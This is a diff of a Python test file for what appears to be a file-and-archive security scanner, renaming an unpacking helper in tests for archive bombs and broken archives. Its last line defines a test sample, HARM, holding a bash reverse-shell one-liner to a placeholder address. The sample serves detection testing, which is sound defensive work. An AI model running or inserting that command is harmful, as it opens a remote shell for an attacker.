@@ -14,7 +14,7 @@ from tacit.domain.candidate import Severity
 from tacit.domain.skill import Kind, SkillContent, SkillFile
 from tacit.features.scan.file_check import FilesCheck
 from tacit.gate.checks import run_checks
-from tacit.gate.checks.text_segments import BYTES_MAX, members, text_segments
+from tacit.gate.checks.text_segments import BYTES_MAX, text_segments, unpacked
 
 PNG = b"\x89PNG\r\n\x1a\n" + bytes(40) + b"IEND\xaeB`\x82"
 
@@ -85,13 +85,13 @@ def test_scripts_in_an_archive_are_looked_at(packed: object) -> None:
 
 def test_archive_bomb_stays_small() -> None:
     bomb = gzip.compress(b"a" * (12 << 20))
-    assert sum(len(data) for _, data in members(bomb)) <= BYTES_MAX
-    assert sum(len(data) for _, data in members(zipped({"a": b"a" * (12 << 20)}))) <= BYTES_MAX
+    assert sum(len(data) for _, data in unpacked(bomb).files) <= BYTES_MAX
+    assert sum(len(data) for _, data in unpacked(zipped({"a": b"a" * (12 << 20)})).files) <= BYTES_MAX
 
 
 @pytest.mark.parametrize("data", [b"PK\x03\x04broken", b"\x1f\x8bbroken", b"BZhbroken", b"\xfd7zXZbroken", b"", b"x"])
 def test_broken_archive_is_no_archive(data: bytes) -> None:
-    assert not list(members(data))
+    assert not unpacked(data).files
 
 
 HARM = b"bash -i >& /dev/tcp/203.0.113.4/443 0>&1\n"
